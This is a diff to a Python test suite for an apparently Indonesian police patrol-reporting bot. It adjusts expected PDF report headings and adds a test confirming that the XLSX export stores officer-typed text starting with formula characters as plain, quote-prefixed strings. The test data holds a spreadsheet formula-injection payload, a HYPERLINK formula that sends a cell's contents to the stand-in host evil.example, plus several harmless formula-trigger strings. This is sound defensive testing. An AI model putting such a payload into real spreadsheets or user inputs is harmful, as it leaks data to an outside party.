@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import re
+import zipfile
 from datetime import UTC, datetime, timedelta
 
 import openpyxl
@@ -91,11 +92,13 @@ async def test_report_pdf_in_police_layout_with_photos(harness: BotHarness, emu:
     assert len(reader.pages) == 2  # the report, then one attachment page with its photo
     text = pdf_text(reader)
     for expected in ("KEPOLISIAN NEGARA REPUBLIK INDONESIA", "LAPORAN HASIL KEGIATAN", NUMBER,
-                     "1. DASAR", "2. WAKTU DAN TEMPAT", "5. HASIL YANG DICAPAI", "7. PENUTUP",
+                     "1. DASAR", "2. MAKSUD DAN TUJUAN", "3. WAKTU DAN TEMPAT",
+                     "6. HASIL YANG DICAPAI", "8. PENUTUP",
                      "Sprin/12/XI/2026/Satbinmas", "pencurian motor", "Warga: Pak",
                      "Budi Santoso", "NRP 87654321", "LAMPIRAN"):
         assert expected in text, expected
     assert len(reader.pages[1].images) == 1
+    assert "kontak -" not in text  # the resident gave no contact: none is printed
     assert "PDF selesai (2 halaman)" in status(kanit)
 
 
@@ -347,3 +350,80 @@ async def test_recap_pdf_without_a_schedule_says_so(harness: BotHarness, emu: Em
     await kanit.press("📄 Rekap PDF bulan ini")
     text = pdf_text(PdfReader(io.BytesIO(documents(kanit)[-1].file_bytes)))
     assert "Tingkat pelaporan: belum ada pos terjadwal." in text
+
+
+HOSTILE_SPRIN = "=1+1"
+HOSTILE_SUMMARY = '=HYPERLINK("http://evil.example/leak?x="&B2,"Klik untuk detail")'
+
+
+async def hostile_complaint(officer, description: str, place: str, name: str) -> None:
+    await officer.press("➕ Tambah keluhan")
+    await officer.press("Pencurian")
+    await officer.send(description)
+    await officer.send(place)
+    await officer.send(name)
+    await officer.press("⏭ Lewati")
+    await officer.press("Segera")
+
+
+async def file_hostile_report(officer) -> None:
+    """A SAPTA report whose every free text begins with a formula character."""
+    await officer.send("/lapor")
+    await officer.press("POS SAPTA")
+    await officer.send(HOSTILE_SPRIN)
+    await officer.press("satu jam terakhir")
+    await officer.send_location(0.5412, 123.0595)
+    await officer.send("\uff1d1 RW 03 Kel. Heledulaa")  # full-width ＝
+    await officer.press("➡️ Lanjut")
+    await walk_rest(officer, photos=1, until=lambda text: "Uraikan singkat" in text)
+    await officer.send(HOSTILE_SUMMARY)
+    await walk_rest(officer, photos=1, until=lambda text: "kendala di lapangan" in text)
+    await officer.send("\t=1+2 hujan deras")
+    await walk_rest(officer, photos=1, until=lambda text: "keluhan atau permasalahan" in text)
+    await hostile_complaint(officer, "@SUM(A1)", "+1", "-1 Pak Hasan")
+    await hostile_complaint(officer, "\t=1+1 motor", "\uff1d1", "=Bu Siti")
+    await hostile_complaint(officer, "\r-1 pencurian", "-1", "@Pak Budi")
+    await officer.press("✅ Selesai")
+    await walk_rest(officer, photos=1)
+    await officer.press("📤 Kirim laporan")
+
+
+async def test_xlsx_has_no_formula_whatever_an_officer_typed(
+    harness: BotHarness, emu: Emulator
+):
+    officer, kanit = await seed(harness, emu)
+    await file_hostile_report(officer)
+    await kanit.send("/ekspor")
+    await kanit.press("📊 XLSX bulan ini")
+    (document,) = documents(kanit)
+
+    with zipfile.ZipFile(io.BytesIO(document.file_bytes)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets
+        for name in sheets:
+            xml = archive.read(name).decode()
+            assert "<f>" not in xml, name
+            assert "<f " not in xml, name
+    workbook = openpyxl.load_workbook(io.BytesIO(document.file_bytes))
+    texts: dict[str, object] = {}
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
+                    texts[cell.value] = cell
+    for typed in (HOSTILE_SPRIN, HOSTILE_SUMMARY, "\uff1d1 RW 03 Kel. Heledulaa",
+                  "=1+2 hujan deras", "@SUM(A1)", "+1", "-1 Pak Hasan", "=1+1 motor",
+                  "\uff1d1", "=Bu Siti", "-1 pencurian", "-1", "@Pak Budi"):
+        assert typed in texts, typed
+        assert texts[typed].quotePrefix, typed  # type: ignore[attr-defined]
+    sheet = workbook["POS SAPTA"]
+    header = [cell.value for cell in sheet[1]]
+    (row,) = sheet.iter_rows(min_row=2)
+    assert row[header.index("Nomor Sprin")].value == HOSTILE_SPRIN
+    assert row[header.index("Uraian kegiatan")].value == HOSTILE_SUMMARY
+    assert row[header.index("Jumlah keluhan")].value == 3  # numbers stay numbers
+    assert row[header.index("Jumlah keluhan")].data_type == "n"
+    assert row[header.index("Mulai (WITA)")].is_date
+    complaints = list(workbook["Keluhan"].iter_rows(min_row=2, values_only=True))
+    assert len(complaints) == 3
